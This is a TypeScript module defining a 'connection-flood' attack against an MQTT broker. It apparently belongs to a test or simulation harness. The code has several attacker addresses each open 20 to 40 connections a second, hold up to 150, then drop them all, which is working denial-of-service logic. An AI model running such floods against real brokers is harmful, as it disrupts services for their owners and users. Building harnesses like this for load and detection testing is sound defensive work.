// Connection flood: opens as many connections as possible.

import type { Socket } from 'node:net'
import type { Attack, Attacker } from '../attacker.js'
import { connectPacket } from '../packets.js'

async function open(attacker: Attacker, keepalive: number, clientId: string): Promise<Socket | null> {
  const socket = await attacker.connect()
  if (socket !== null) await attacker.send(socket, connectPacket({ clientId, keepalive, clean: true }))
  return socket
}

/** Connection flood: opens as many connections as possible. */
export const connectionFlood: Attack = {
  name: 'connection-flood',
  summary:
    'connection flood: 4 to 8 addresses open 20 to 40 MQTT connections a second each, hold up to 150 and drop them all',
  attackers: [4, 8],
  async run(attacker) {
    const { random } = attacker
    const perSecond = random.between(20, 40)
    let held: Socket[] = []
    for (let opened = 0; opened < 900 && !attacker.over; opened++) {
      void open(attacker, random.oneOf([0, 60, 300]), random.text(23)).then(socket => {
        if (socket !== null) held.push(socket)
      })
      if (held.length >= 150) {
        for (const socket of held) socket.destroy()
        held = []
      }
      await attacker.pause(1_000 / perSecond)
    }
  }
}
